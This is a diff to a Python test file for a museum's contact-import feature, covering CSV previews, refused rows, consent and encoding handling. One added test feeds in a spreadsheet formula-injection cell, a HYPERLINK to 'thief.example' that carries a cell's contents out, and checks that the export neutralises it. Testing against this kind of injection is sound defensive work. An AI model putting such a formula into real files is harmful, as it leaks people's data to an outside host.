@@ -1,5 +1,7 @@
 """Bringing people in: what is new, changed and refused before it is written, nothing half-written, undone as a whole."""
 
+import csv
+from dataclasses import replace
 from datetime import timedelta
 
 import pytest
@@ -51,9 +53,9 @@ def test_looking_tells_what_would_happen_and_writes_nothing(museum: Museum) -> N
     view = preview(museum, FILE)
     assert (view.new, view.changed, view.same, view.refused, view.rows) == (1, 2, 1, 2, 6)
     changes = {row.row: [(one.field, one.before, one.after) for one in row.changes] for row in view.changed_rows}
-    assert changes == {1: [("town", "Skarn", "Marlby")], 3: [("first_name", "Ζωή", "Zoë")]}
+    assert changes == {2: [("town", "Skarn", "Marlby")], 4: [("first_name", "Ζωή", "Zoë")]}
     assert view.changed_fields == {"town": 1, "first_name": 1}
-    assert [(row.row, row.code) for row in view.refusals] == [(4, "ambiguous"), (6, "address_malformed")]
+    assert [(row.row, row.code) for row in view.refusals] == [(5, "ambiguous"), (7, "address_malformed")]
     assert view.refusals[0].cells[1] == "ada@slatepost.example"
     assert rows_of(museum, "contact") == before
     assert get_import(museum.database, view.id) == view
@@ -108,7 +110,7 @@ def test_people_are_known_by_their_address_alone_where_that_is_chosen(museum: Mu
     assert (view.new, view.changed) == (1, 1)
     view = preview_again(museum, view, key="address")
     assert (view.new, view.changed, view.refused) == (0, 1, 1)
-    assert [(row.row, row.code) for row in view.refusals] == [(2, "number_taken")]
+    assert [(row.row, row.code) for row in view.refusals] == [(3, "number_taken")]
     write(museum, view)
     with museum.database.transaction() as tx:
         numbers = run_sql(tx, "SELECT contact_no FROM contact WHERE address = 'benoit@slatepost.example'")
@@ -167,7 +169,7 @@ def test_columns_carry_tags_and_topics(museum: Museum) -> None:
     view = preview(museum, file)
     assert [column.use for column in view.columns] == ["field", "tags", "topics"]
     assert view.topics_named == {"field_walks": 1, "museum_news": 2}
-    assert [(row.row, row.code) for row in view.refusals] == [(3, "no_such_topic")]
+    assert [(row.row, row.code) for row in view.refusals] == [(4, "no_such_topic")]
     with pytest.raises(BadInput, match="on what ground"):
         write(museum, view)
     view = preview_again(museum, view, tags=["open day"])
@@ -177,7 +179,7 @@ def test_columns_carry_tags_and_topics(museum: Museum) -> None:
     lou = contact_page(museum.database, wanted=Wanted(search="lou@"), now=NOW).rows[0]
     assert {mark.key: mark.state for mark in lou.topics} == {"field_walks": "subscribed", "museum_news": "subscribed"}
     told = person(museum.database, lou.id, NOW).ledger[0]
-    assert (told.way, told.evidence["ground"], told.evidence["row"]) == ("import", "Ticked on the visitor form", 2)
+    assert (told.way, told.evidence["ground"], told.evidence["row"]) == ("import", "Ticked on the visitor form", 3)
 
 
 def test_what_was_chosen_for_columns_is_remembered_for_the_next_file(museum: Museum) -> None:
@@ -211,10 +213,49 @@ def test_the_refused_rows_come_back_as_a_file_that_can_be_mended(museum: Museum)
     assert name == "refused from more.csv"
     lines = text.lstrip("\ufeff").splitlines()
     assert lines[0] == "Contact no.,E-mail address,First name,Last name,Town,refused because"
-    assert lines[1].startswith(",ada@slatepost.example,Nora,Fenwick,Skarn,Several people")
+    assert lines[1].startswith(",ada@slatepost.example,Nora,Fenwick,Skarn,More than one person")
     assert lines[2].startswith("N-02,broken,Nia,Wren,Skarn,")
     mended = "\n".join(lines).replace("N-02,broken", "N-02,nia@slatepost.example")
     assert preview(museum, mended).new == 1
+
+
+def test_the_refused_rows_file_runs_nothing_and_is_read_back_as_it_was(museum: Museum) -> None:
+    cell = '=HYPERLINK("http://thief.example?"&A2)'
+    rows = f'E-mail,Town\nbroken,"{cell.replace(chr(34), chr(34) * 2)}"\n'
+    view = write(museum, preview(museum, rows))
+    _, text = refused_file(museum.database, view.id)
+    found = next(csv.reader([text.splitlines()[1]]))
+    assert found[1] == f"'{cell}"
+    again = preview(museum, text.replace("broken", "kim@slatepost.example"))
+    assert again.new_rows[0].record["town"] == cell
+
+
+def test_what_later_rows_contradict_is_asked_before_anything_of_it_is_taken(museum: Museum) -> None:
+    """The first 400 rows write 1,250 and 12.50; one far behind them writes 3,75."""
+    amounts = ["12.50", *['"1,250"'] * 400, '"3,75"']
+    file = "E-mail,Pledge\n" + "".join(f"p{n}@slatepost.example,{one}\n" for n, one in enumerate(amounts))
+    view = preview(museum, file)
+    assert (view.columns[1].decimal_comma, view.columns[1].open) == (None, ["decimal"])
+    assert {row.code for row in view.refusals} == {"two_readings"}
+    assert (view.new, view.refused) == (2, 400)
+    said = choices(view)
+    said[1] = replace(said[1], decimal_comma=False)
+    told = preview_again(museum, view, columns=said)
+    assert (told.columns[1].doubts, told.columns[1].open, told.new) == (["decimal"], [], 402)
+
+
+def test_numbers_that_meet_other_peoples_are_told_before_they_get_another_address(museum: Museum) -> None:
+    view = preview(museum, "id,E-mail,Town\nM-01,kim@slatepost.example,Skarn\nM-03,zoe@slatepost.example,Skarn\n")
+    assert (view.columns[0].use, view.columns[0].doubts, view.meets) == ("leave_out", ["contact_number"], None)
+    said = choices(view)
+    said[0] = replace(said[0], use="field", field="contact_no")
+    meets = preview_again(museum, view, columns=said).meets
+    assert meets is not None
+    assert (meets.rows, meets.examples[0].row, meets.examples[0].name) == (1, 2, "Ada Thwaite-Gray")
+    assert (meets.examples[0].address, meets.examples[0].their_address) == (
+        "kim@slatepost.example",
+        "ada@slatepost.example",
+    )
 
 
 def test_consent_is_stated_with_its_ground_and_never_opens_what_was_closed(museum: Museum) -> None:
@@ -269,9 +310,9 @@ def test_columns_can_be_chosen_by_hand(museum: Museum) -> None:
 def test_another_encoding_reads_the_same_file_anew(museum: Museum) -> None:
     view = preview(museum, "E-mail,First name\nkim@slatepost.example,Łukasz\n".encode("iso-8859-2"))
     assert view.form.guessed
-    assert view.new_rows[0].record["first_name"] == "£ukasz"
-    mended = preview_again(museum, view, form={"encoding": "iso-8859-2"})
-    assert mended.new_rows[0].record["first_name"] == "Łukasz"
+    assert view.new_rows[0].record["first_name"] == "Łukasz"
+    other = preview_again(museum, view, form={"encoding": "iso-8859-1"})
+    assert other.new_rows[0].record["first_name"] == "£ukasz"
     with pytest.raises(BadInput):
         preview_again(museum, view, form={"encoding": "utf-8"})
 
@@ -280,8 +321,8 @@ def test_two_rows_for_one_person_are_told(museum: Museum) -> None:
     view = preview(museum, "Contact no.,E-mail address,Town\nM-03,,Marlby\n,zoe@slatepost.example,Skarn\nM-03,,Skarn\n")
     told = [(row.row, row.code, row.message) for row in view.refusals]
     assert told == [
-        (2, "same_person", "Row 1 stands for the same person already."),
-        (3, "repeated", "The same person stands in row 1 already."),
+        (3, "same_person", "Same person as row 2."),
+        (4, "repeated", "Same person as row 2."),
     ]
     assert view.changed == 1
 
